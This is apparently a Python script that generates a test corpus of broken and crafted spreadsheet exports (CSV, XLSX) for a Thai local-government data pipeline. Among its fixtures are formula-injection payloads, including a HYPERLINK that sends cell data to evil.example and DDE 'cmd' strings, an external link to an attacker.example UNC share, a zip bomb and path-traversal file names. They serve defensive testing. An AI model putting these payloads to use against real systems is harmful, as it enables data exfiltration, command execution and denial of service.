"""Write the corpus of bad raw exports in this folder (deterministic: same bytes on every run).

    .venv/bin/python tests/data/bad/make_corpus.py          # rewrite the committed files
    .venv/bin/python tests/data/bad/make_corpus.py --check  # exit 1 if a committed file differs

Each file is a way a raw export arrives broken, mis-encoded, duplicated or crafted; what the
pipeline must do with each is in ``expected.json``. Files too big to commit (a 10 MB cell, a zip
bomb) and file names git should not carry (path traversal, control characters) are made by
``big_and_odd`` at test time, into a temporary folder.
"""

from __future__ import annotations

import argparse
import codecs
import csv
import datetime as dt
import gzip
import io
import random
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
SUB = "local-digital-submissions"
SURVEY = "lao-digital-readiness-survey"
BASE_ROWS = 12
FIXED_TIME = (2024, 1, 1, 0, 0, 0)
BOM = codecs.BOM_UTF8


def _base(dataset: str) -> list[list[str]]:
    """Header + ``BASE_ROWS`` clean rows from the project's own sample generator (fixed seed)."""
    import tempfile

    sys.path.insert(0, str(ROOT))
    from dgti_data.datasets import load_catalog
    from dgti_data.sample.generator import generate

    catalog = load_catalog(ROOT / "schemas")
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / f"{dataset}.csv"
        generate(catalog.get(dataset), path, 100, 7, "csv-utf8-bom", ROOT / "schemas" / "reference",
                 error_rate=0.0, messy=False)
        with path.open(encoding="utf-8-sig", newline="") as fh:
            return list(csv.reader(fh))[: BASE_ROWS + 1]


def _csv(rows: list[list[str]], bom: bool = True) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return (BOM if bom else b"") + buf.getvalue().encode("utf-8")


def _col(rows: list[list[str]], header: str) -> int:
    return rows[0].index(header)


def _set(rows: list[list[str]], header_prefix: str, values: dict[int, str]) -> list[list[str]]:
    """A copy with data row i (1-based) of the first column whose header starts with the prefix set."""
    out = [list(r) for r in rows]
    col = next(i for i, h in enumerate(out[0]) if h.startswith(header_prefix))
    for i, v in values.items():
        out[i][col] = v
    return out


def _fixed_zip(data: bytes, extra: dict[str, bytes] | None = None,
               edit: Callable[[str, bytes], bytes] | None = None) -> bytes:
    """Re-zip a workbook with fixed entry times, optionally editing or adding parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "docProps/core.xml":  # openpyxl stamps "modified" with now
                body = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", body)
            if edit is not None:
                body = edit(info.filename, body)
            dst.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), body, zipfile.ZIP_DEFLATED)
        for name, body in (extra or {}).items():
            dst.writestr(zipfile.ZipInfo(name, FIXED_TIME), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _xlsx(rows: list[list[object]], fill: Callable[[object], None] | None = None,
          **zip_args: object) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "data"
    for row in rows:
        ws.append(row)
    if fill is not None:
        fill(ws)
    when = dt.datetime(2024, 1, 1)
    wb.properties.created = wb.properties.modified = when
    buf = io.BytesIO()
    wb.save(buf)
    return _fixed_zip(buf.getvalue(), **zip_args)  # type: ignore[arg-type]


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            z.writestr(zipfile.ZipInfo(name, FIXED_TIME), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


FORMULAS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"คลิกเพื่อดูรายละเอียด")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

EXTERNAL_LINK = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>
<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>secret</v></cell></row>
</sheetData></sheetDataSet></externalBook></externalLink>"""
EXTERNAL_RELS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
 Target="file:///\\\\attacker.example\\share\\book.xlsx" TargetMode="External"/></Relationships>"""


def _with_external_link(name: str, body: bytes) -> bytes:
    """Wire an external workbook link into the package (what Excel writes for ``=[1]Sheet1!A1``)."""
    if name == "[Content_Types].xml":
        override = (b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
                    b'"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>')
        return body.replace(b"</Types>", override + b"</Types>")
    if name == "xl/_rels/workbook.xml.rels":
        rel = (b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
               b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/>')
        return body.replace(b"</Relationships>", rel + b"</Relationships>")
    if name == "xl/workbook.xml":
        refs = (b'<externalReferences xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships"><externalReference r:id="rIdX1"/></externalReferences>')
        return body.replace(b"</sheets>", b"</sheets>" + refs)
    return body


def corpus() -> dict[str, bytes]:
    """File name → bytes of every committed bad input."""
    sub, survey = _base(SUB), _base(SURVEY)
    text = _csv(sub)
    rnd = random.Random(20241)
    files: dict[str, bytes] = {}

    def add(name: str, data: bytes) -> None:
        files[f"{SUB}-{name}"] = data

    # Nothing, or not a table at all.
    add("empty.csv", b"")
    add("bom-only.csv", BOM)
    add("blank-lines.csv", b"\r\n  \r\n\t\r\n")
    add("only-delimiters.csv", b",,,,\r\n,,,\r\n;;\r\n")
    add("header-only.csv", _csv(sub[:1]))
    add("binary-noise.csv", rnd.randbytes(4096))
    add("png-image.csv", b"\x89PNG\r\n\x1a\n" + rnd.randbytes(256))
    add("pdf-document.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
    add("gzip-archive.csv", gzip.compress(text, mtime=0))
    add("html-page.csv", "<html><body><table><tr><td>รหัสผลงาน</td></tr></table></body></html>".encode())
    add("nul-in-cell.csv", text.replace("เทศบาล".encode(), "เทศ\x00บาล".encode(), 1))

    # Encodings.
    body = text[len(BOM):].decode("utf-8")
    add("utf16-without-bom.csv", body.encode("utf-16-le"))
    add("double-encoded-utf8.csv", body.encode("utf-8").decode("latin-1").encode("utf-8"))
    lines = body.split("\r\n")
    half = len(lines) // 2
    add("mixed-utf8-and-cp874.csv", ("\r\n".join(lines[:half]) + "\r\n").encode("utf-8")
        + "\r\n".join(lines[half:]).encode("cp874"))
    add("cp874-with-undefined-bytes.csv", body.encode("cp874").replace(b",", b"\xdb,", 3))

    # Cut short.
    add("truncated-last-line.csv", BOM + body.rstrip("\r\n")[: -len(lines[-2]) // 2].encode("utf-8"))
    cut = text.rindex("ภาค".encode()) + 1  # inside a three-byte Thai character
    add("truncated-mid-character.csv", text[:cut])

    # Shapes.
    name = sub[3][4]  # a Thai LAO name: no comma, so the csv module wrote it unquoted
    add("unbalanced-quote.csv", text.replace(f",{name},".encode(), f',"{name},'.encode(), 1))
    dup = [[*list(r), r[9]] for r in sub]
    dup[0][-1] = sub[0][9]
    add("duplicate-headers.csv", _csv(dup))
    blank = [list(r) for r in sub]
    blank[0][3] = blank[0][10] = ""
    add("blank-headers.csv", _csv(blank))
    add("extra-cells.csv", _csv([sub[0]] + [[*r, "x", "y", "=1+1"] for r in sub[1:]]))
    keep = [i for i, h in enumerate(sub[0]) if not h.startswith(("วันที่ส่ง", "รหัส อปท", "รหัสอปท"))]
    add("missing-columns.csv", _csv([[r[i] for i in keep] for r in sub]))
    add("short-rows.csv", _csv([sub[0]] + [r[: 5 + i] for i, r in enumerate(sub[1:])]))
    wide = [sub[0] + [f"extra{i}" for i in range(3000)]] + [r + ["v"] * 3000 for r in sub[1:]]
    add("very-wide-rows.csv", _csv(wide))
    add("duplicated-rows.csv", _csv(sub + sub[1:]))
    long_header = [list(r) for r in sub]
    long_header[0] = long_header[0] + ["ก" * 20000]
    long_header[1:] = [[*r, ""] for r in long_header[1:]]
    add("very-long-header.csv", _csv(long_header))

    # Crafted cells.
    add("formulas.csv", _csv(_set(_set(sub, "ชื่อผลงาน", dict(enumerate(FORMULAS, 1))),
                                  "สรุปผลงาน", {8: "=HYPERLINK(\"http://evil.example\")", 9: "@cmd"})))
    add("formulas-in-numbers.csv", _csv(_set(_set(sub, "จำนวนผู้รับบริการ", {1: "=1+1", 2: "+5"}),
                                             "งบประมาณ", {3: "=SUM(A1:A9)", 4: "-1+2"})))
    add("excel-errors.csv", _csv(_set(_set(_set(sub, "ชื่ออปท", {1: "#N/A", 2: "#REF!"}),
                                           "จำนวนผู้รับบริการ", {3: "#DIV/0!", 4: "#VALUE!"}),
                                      "สรุปผลงาน", {5: "#NAME?"})))
    add("special-numbers.csv", _csv(_set(_set(sub, "งบประมาณ", {1: "sNaN", 2: "NaN", 3: "Infinity", 4: "-0"}),
                                         "จำนวนผู้รับบริการ", {5: "1e400", 6: "٣"})))
    controls = {1: "\x1b[31mred\x1b[0m\x07", 2: "a\x0bb\x0cc"}
    add("control-characters.csv", _csv(_set(sub, "สรุปผลงาน", controls)))

    # Dataset cannot be told.
    files["mystery-export.csv"] = _csv([["a", "b", "c"], ["1", "2", "3"]])

    # Workbooks.
    add("empty-sheet.xlsx", _xlsx([]))
    files[f"{SURVEY}-header-only.xlsx"] = _xlsx(survey[:1])
    files[f"{SURVEY}-excel-errors.xlsx"] = _xlsx(
        survey, fill=lambda ws: [setattr(ws.cell(row=r, column=c), "value", v)
                                 for r, c, v in ((2, 5, "#N/A"), (3, 11, "#REF!"), (4, 15, "#DIV/0!"))]
    )

    def formulas(ws: object) -> None:
        ws.cell(row=2, column=10).value = '=HYPERLINK("http://evil.example","click")'  # type: ignore[attr-defined]
        ws.cell(row=3, column=10).value = "=cmd|' /C calc'!A0"  # type: ignore[attr-defined]
        cell = ws.cell(row=4, column=10)  # type: ignore[attr-defined]
        cell.value = "=1+1"
        cell.data_type = "s"  # text that merely starts with "=": Excel keeps it as text
        ws.cell(row=5, column=14).value = "=2*3"  # type: ignore[attr-defined]

    add("formulas.xlsx", _xlsx(sub, fill=formulas))

    def external(ws: object) -> None:
        ws.cell(row=2, column=10).value = "=[1]Sheet1!A1"  # type: ignore[attr-defined]

    add("external-link.xlsx", _xlsx(sub, fill=external, edit=_with_external_link,
                                     extra={"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK,
                                            "xl/externalLinks/_rels/externalLink1.xml.rels": EXTERNAL_RELS}))
    good = _xlsx(sub)
    add("damaged.xlsx", good[: len(good) // 2])
    add("legacy-ole2.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rnd.randbytes(1024))
    add("opendocument.xlsx", _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                   "content.xml": b"<office:document-content/>"}))
    add("zip-without-workbook.xlsx", _zip({"readme.txt": b"hello"}))
    add("csv-named-xlsx.xlsx", text)
    return files


def big_and_odd(folder: Path) -> dict[str, Path]:
    """Inputs made at test time: a 10 MB cell, a zip bomb, and file names with path traversal,
    control characters and 246 bytes of Thai. Returns label → path."""
    sub = _base(SUB)
    folder.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}
    huge = _set(sub, "สรุปผลงาน", {2: "ก" * (10 * 1024 * 1024 // 3)})
    out["10 MB single cell"] = folder / f"{SUB}-10mb-cell.csv"
    out["10 MB single cell"].write_bytes(_csv(huge))
    out["xlsx zip bomb"] = folder / f"{SUB}-zip-bomb.xlsx"
    out["xlsx zip bomb"].write_bytes(zip_bomb(_xlsx(sub)))
    for label, name in (
        ("path traversal (backslashes)", f"{SUB}-..\\..\\..\\windows\\evil.csv"),
        ("path traversal (encoded)", f"{SUB}-..%2f..%2fetc%2fcron.d%2fx.csv"),
        ("control characters in the name", f"{SUB}-\x1b[2Jline\nbreak.csv"),
        ("a 246-byte Thai file name", f"{SUB}-{'ข้อมูล' * 12}.csv"),
        ("leading dots and dashes", f"{SUB}-...--.csv"),
    ):
        path = folder / name
        path.write_bytes(_csv(sub))
        out[label] = path
    return out


def zip_bomb(workbook: bytes, size: int = 400 * 1024 * 1024) -> bytes:
    """``workbook`` with its sheet replaced by ``size`` bytes of repeated rows (a few hundred KB
    compressed): opened, it would take gigabytes of memory."""
    out = io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 200 + b"</t></is></c></row>"
    with zipfile.ZipFile(io.BytesIO(workbook)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info, src.read(info.filename))
                continue
            sheet = zipfile.ZipInfo(info.filename, FIXED_TIME)
            sheet.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(sheet, "w", force_zip64=True) as fh:
                fh.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                         b"<sheetData>")
                block = row * (1 << 14)
                for _ in range(size // len(block)):
                    fh.write(block)
                fh.write(b"</sheetData></worksheet>")
    return out.getvalue()


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--check", action="store_true", help="compare with the committed files only")
    args = parser.parse_args(argv)
    files = corpus()
    if args.check:
        stale = [n for n, d in files.items() if not (HERE / n).is_file() or (HERE / n).read_bytes() != d]
        for name in stale:
            print(f"differs: {name}")
        return 1 if stale else 0
    for name, data in files.items():
        (HERE / name).write_bytes(data)
    print(f"{len(files)} files, {sum(len(d) for d in files.values()):,} bytes in {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
